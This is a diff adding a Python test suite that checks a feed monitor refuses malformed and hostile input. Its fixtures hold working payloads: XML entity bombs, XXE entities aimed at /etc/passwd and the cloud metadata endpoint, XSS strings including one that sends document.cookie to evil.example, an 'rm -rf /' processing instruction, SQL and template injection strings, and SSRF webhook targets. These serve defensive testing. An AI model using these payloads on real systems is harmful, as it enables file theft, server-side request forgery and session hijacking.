@@ -1,0 +1,293 @@
+"""Hostile and broken input: refused with a clear error, never a crash, nothing stored from it.
+
+Feeds (malformed XML, entity bombs, external entities, invalid bytes, hostile HTML), the
+command line (usage errors exit 2, user errors exit 1, always one line without a traceback)
+and delivery targets (only Slack hosts for ``slack:``, no private addresses).
+"""
+
+from __future__ import annotations
+
+import gc
+import sys
+import warnings
+
+import pytest
+from sqlalchemy import select
+
+from monitor.errors import InsanityError, ParseError
+from monitor.models import Item, Source
+from monitor.safety import expat_problem, require_safe_expat
+from monitor.sanity import sanity_check
+from monitor.sources import Fetched, Page
+from monitor.sources.rss import RssConfig, RssSource
+from tests.reliability.helpers import count, item_keys, poll, rss, write_sources
+
+SOURCE = RssSource(RssConfig(id="fuzz", url="https://example.org/feed.xml"))
+
+
+def parse(body: bytes):
+    records = SOURCE.parse(Fetched(pages=(Page("https://example.org/feed.xml", body),)))
+    sanity_check(records)
+    return records
+
+
+def item(inner: str) -> bytes:
+    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title><item>{inner}</item></channel></rss>'.encode()
+
+
+LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
+<rss version="2.0"><channel><title>T</title><item><guid>x</guid><title>&lol9;</title></item></channel></rss>"""
+
+QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
+             b'<rss version="2.0"><channel><title>T</title><item><guid>q</guid><title>'
+             + b"&a;" * 2_000 + b"</title></item></channel></rss>")
+
+
+def xxe(path: str, where: str = "title") -> bytes:
+    return (f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{path}">]>'
+            f'<rss version="2.0"><channel><title>T</title><item><guid>x</guid><{where}>&xxe;</{where}>'
+            f'</item></channel></rss>').encode()
+
+
+MALFORMED: dict[str, bytes] = {
+    "empty": b"",
+    "whitespace_only": b"   \n\t ",
+    "nul_bytes": b"\x00" * 100,
+    "random_binary": bytes(range(256)),
+    "utf16_bom_garbage": b"\xff\xfe<\x00r\x00",
+    "plain_text": b"Service temporarily unavailable",
+    "json": b'{"items": [{"title": "x"}]}',
+    "json_list": b'[1, 2, 3]',
+    "html_page": b"<html><body><h1>404 Not Found</h1></body></html>",
+    "unclosed_root": b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>',
+    "mismatched_tags": item("<title>a</guid>"),
+    "bad_entity": item("<guid>x</guid><title>AT&T &bogus; &#xD800;</title>"),
+    "invalid_utf8_in_title": item("<guid>x</guid><title>").replace(b"<title>", b"<title>\xff\xfe\xc3(") ,
+    "control_chars": item("<guid>x</guid><title>\x01\x02\x1b[31mred</title>"),
+    "declared_utf16_is_utf8": b'<?xml version="1.0" encoding="utf-16"?>' + item("<guid>x</guid><title>t</title>")[21:],
+    "unknown_encoding": b'<?xml version="1.0" encoding="x-unknown-9"?>' + item("<guid>x</guid><title>t</title>")[21:],
+    "deeply_nested": item("<guid>d</guid><title>t</title>" + "<x>" * 50_000 + "</x>" * 50_000),
+    "deeply_nested_unclosed": item("<guid>d</guid>" + "<x>" * 30_000),
+    "huge_attribute": item('<guid>h</guid><title a="' + "v" * 1_000_000 + '">t</title>'),
+    "huge_title": item("<guid>h</guid><title>" + "t" * 2_000_000 + "</title>"),
+    "ten_thousand_items": (b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
+                           + b"".join(b"<item><guid>%d</guid><title>t</title></item>" % i for i in range(10_000))
+                           + b"</channel></rss>"),
+    "duplicate_guids": (b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
+                        b"<item><guid>same</guid><title>a</title></item><item><guid>same</guid><title>b</title></item>"
+                        b"</channel></rss>"),
+    "item_without_anything": item(""),
+    "empty_guid_and_link": item("<guid></guid><link></link><title>only a title</title>"),
+    "future_date": item("<guid>f</guid><title>t</title><pubDate>Mon, 01 Jan 2999 00:00:00 GMT</pubDate>"),
+    "garbage_date": item("<guid>g</guid><title>t</title><pubDate>the day after tomorrow</pubDate>"),
+    "year_zero_date": item("<guid>g</guid><title>t</title><pubDate>Mon, 01 Jan 0000 00:00:00 GMT</pubDate>"),
+    "cdata_unclosed": item("<guid>c</guid><title><![CDATA[never closed</title>"),
+    "processing_instruction": item('<?evil cmd="rm -rf /"?><guid>p</guid><title>t</title>'),
+    "atom_without_entries": b'<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title></feed>',
+    "atom_entry_no_id": b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>t</title></entry></feed>',
+    "rdf_broken": b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><item><title>t</title>',
+    "svg_not_a_feed": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+    "billion_laughs": LAUGHS,
+    "quadratic_blowup": QUADRATIC,
+    "xxe_parameter_entity": (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
+                             + item("<guid>x</guid><title>t</title>")[21:]),
+    "xxe_http": (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
+                 b'<rss version="2.0"><channel><item><guid>x</guid><title>&e;</title></item></channel></rss>'),
+}
+
+
+@pytest.mark.parametrize("name", list(MALFORMED))
+def test_malformed_feed_is_refused_or_parsed_never_crashes(name: str) -> None:
+    try:
+        records = parse(MALFORMED[name])
+    except (ParseError, InsanityError) as exc:
+        assert str(exc).strip() and "\n" not in str(exc).strip()
+        return
+    for record in records:
+        assert isinstance(record.title, str) and len(record.key) < 2_100_000
+
+
+def test_billion_laughs_does_not_expand() -> None:
+    try:
+        records = parse(LAUGHS)
+    except (ParseError, InsanityError):
+        return
+    assert all(len(r.title) < 10_000 for r in records)
+
+
+@pytest.mark.parametrize("where", ["title", "description", "guid", "link"])
+def test_external_entity_never_reads_a_local_file(where: str, tmp_path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-XXE-CANARY")
+    try:
+        records = parse(xxe(str(secret), where))
+    except (ParseError, InsanityError):
+        return
+    assert "TOP-SECRET-XXE-CANARY" not in repr([r.snapshot() for r in records])
+
+
+def test_xxe_through_the_whole_pipeline_stores_no_file_content(db, feeds, tmp_path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-XXE-CANARY")
+    feeds.set("/x.xml", xxe(str(secret)))
+    poll(db, write_sources(tmp_path / "sources.yaml", {"x": feeds.url("/x.xml")}))
+    with db.session() as s:
+        stored = repr([(i.title, i.summary, i.key, i.data) for i in s.scalars(select(Item))])
+        error = s.get(Source, "x").last_error or ""
+    assert "TOP-SECRET-XXE-CANARY" not in stored + error
+
+
+@pytest.mark.parametrize("name", ["empty", "html_page", "json", "random_binary", "plain_text"])
+def test_rejected_body_stores_nothing_and_keeps_earlier_items(name: str, db, feeds, tmp_path) -> None:
+    config = write_sources(tmp_path / "sources.yaml", {"x": feeds.url("/x.xml")})
+    feeds.set("/x.xml", rss(("a1", "Kept")))
+    poll(db, config)
+    feeds.set("/x.xml", MALFORMED[name])
+    result = poll(db, config)
+    assert result.polls[0].outcome == "failed" and result.polls[0].error.startswith("parse:")
+    assert item_keys(db) == {"rss:x:a1"} and count(db, Item) == 1
+
+
+HOSTILE = [
+    "<script>alert(document.cookie)</script>Bivens",
+    '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "<iframe src=\"https://evil.example\"></iframe>",
+    "<style>body{display:none}</style>",
+    "<svg/onload=alert(1)>",
+    "\"><script>alert(1)</script>",
+    "<<script>script>alert(1)<</script>/script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<!--#exec cmd=\"/bin/echo pwned\" -->",
+    "{{7*7}} ${7*7} <%= 7*7 %>",
+    "<@U12345> <!channel> <!here> *bold* ~strike~",
+    "\u202eRTL override\u202c and zero\u200bwidth",
+    "Robert'); DROP TABLE items;--",
+]
+
+
+@pytest.mark.parametrize("index", range(len(HOSTILE)), ids=[f"hostile_{i}" for i in range(len(HOSTILE))])
+def test_hostile_html_is_stored_as_text(index: int, db, feeds, tmp_path) -> None:
+    from xml.sax.saxutils import escape
+
+    hostile = HOSTILE[index]
+    feeds.set("/h.xml", rss(("h1", escape(hostile), escape(hostile))))
+    poll(db, write_sources(tmp_path / "sources.yaml", {"h": feeds.url("/h.xml")}))
+    with db.session() as s:
+        stored = s.scalars(select(Item)).one()
+        assert isinstance(stored.title, str) and stored.title  # text, whatever it says
+        assert count(db, Item) == 1  # an injection in a title is just a title
+    assert item_keys(db) == {"rss:h:h1"}
+
+
+@pytest.mark.parametrize(("version", "ok"), [
+    ("expat_2.5.0", True), ("expat_2.4.1", True), ("expat_3.0.0", True), ("expat_2.6.10", True),
+    ("expat_2.4.0", False), ("expat_2.2.10", False), ("expat_1.95.8", False), ("expat_2.3.99", False),
+    ("garbage", False), ("", False),
+])
+def test_expat_version_check(version: str, ok: bool) -> None:
+    assert (expat_problem(version) is None) == ok
+    if not ok:
+        with pytest.raises(Exception) as info:
+            require_safe_expat(version)
+        assert "\n" not in str(info.value) and "Expat" in str(info.value)
+
+
+def test_this_interpreter_has_a_safe_expat() -> None:
+    require_safe_expat()
+
+
+# ---- the command line -------------------------------------------------------------------------
+
+def run_main(args: list[str], monkeypatch, capsys) -> tuple[int, str, str]:
+    from monitor.cli import main
+
+    monkeypatch.setattr(sys, "argv", ["monitor", *args])
+    with pytest.raises(SystemExit) as info:
+        main()
+    with warnings.catch_warnings():  # the CLI leaves its pool to process exit; collect it here
+        warnings.simplefilter("ignore", ResourceWarning)
+        gc.collect()
+    out, err = capsys.readouterr()
+    return info.value.code or 0, out, err
+
+
+CLI_USAGE = {
+    "unknown_command": ["frobnicate"],
+    "unknown_option": ["run", "--once", "--turbo"],
+    "missing_argument": ["subscribe"],
+    "option_missing_value": ["run", "--config"],
+    "bad_choice_flag_value": ["items", "list", "--limit", "many"],
+    "extra_argument": ["status", "extra"],
+}
+
+CLI_USER = {
+    "missing_config": (["run", "--once", "--config", "/nonexistent/sources.yaml"], "configuration file not found"),
+    "bad_db_url": (["status", "--db", "nonsense://"], "error:"),
+    "unknown_watchlist": (["subscribe", "nope", "slack:https://hooks.slack.com/services/T/B/X"], "no watchlist named"),
+    "bad_watchlist_name": (["watchlist", "add", "Bad Name!", "--query", "x"], "must be a slug"),
+    "unknown_item": (["items", "show", "rss:none:none"], "no item with key"),
+    "bad_since_date": (["changes", "list", "--since", "yesterday-ish"], "not an ISO date"),
+}
+
+
+@pytest.mark.parametrize("name", list(CLI_USAGE))
+def test_cli_usage_error_exits_2_without_traceback(name, monkeypatch, capsys, db_url) -> None:
+    monkeypatch.setenv("MONITOR_DATABASE_URL", db_url)
+    code, out, err = run_main(CLI_USAGE[name], monkeypatch, capsys)
+    assert code == 2, (out, err)
+    assert "Traceback" not in err + out and len(err.strip().splitlines()) == 1 and err.startswith("error: ")
+
+
+@pytest.mark.parametrize("name", list(CLI_USER))
+def test_cli_user_error_exits_1_with_one_line(name, monkeypatch, capsys, db_url) -> None:
+    args, expected = CLI_USER[name]
+    monkeypatch.setenv("MONITOR_DATABASE_URL", db_url)
+    code, out, err = run_main(args, monkeypatch, capsys)
+    assert code in (1, 2), (out, err)
+    assert expected in err and "Traceback" not in err + out
+    assert len([line for line in err.splitlines() if line.startswith("error")]) <= 1
+
+
+BAD_TARGETS = {
+    "slack_non_slack_host": "slack:https://evil.example.com/services/T/B/X",
+    "slack_plain_http": "slack:http://hooks.slack.com/services/T/B/X",
+    "slack_metadata": "slack:https://169.254.169.254/latest/meta-data/",
+    "slack_private_10": "slack:https://10.0.0.1/services/T/B/X",
+    "slack_private_192": "slack:https://192.168.1.1/services/T/B/X",
+    "slack_loopback": "slack:https://127.0.0.1/services/T/B/X",
+    "slack_localhost_name": "slack:https://localhost/services/T/B/X",
+    "slack_ipv6_loopback": "slack:https://[::1]/services/T/B/X",
+    "slack_no_url": "slack:",
+    "slack_garbage": "slack:not a url at all",
+    "slack_bad_port": "slack:https://hooks.slack.com:99999/x",
+    "unknown_channel": "pigeon:coo",
+    "no_scheme": "hooks.slack.com/services/T/B/X",
+    "empty": "",
+}
+
+
+@pytest.mark.parametrize("name", list(BAD_TARGETS))
+def test_bad_target_is_refused_and_nothing_is_stored(name, monkeypatch, capsys, db_url) -> None:
+    from monitor.db import Database
+    from monitor.models import Subscription, Watchlist
+
+    monkeypatch.setenv("MONITOR_DATABASE_URL", db_url)
+    monkeypatch.delenv("MONITOR_ALLOW_PRIVATE_URLS", raising=False)
+    database = Database(db_url)
+    with database.session() as s:
+        s.add(Watchlist(name="bivens", query="bivens"))
+    code, out, err = run_main(["subscribe", "bivens", BAD_TARGETS[name]], monkeypatch, capsys)
+    assert code in (1, 2) and "Traceback" not in err
+    assert "XXSECRET" not in err
+    with database.session() as s:
+        assert s.scalars(select(Subscription)).all() == []
+    database.dispose()
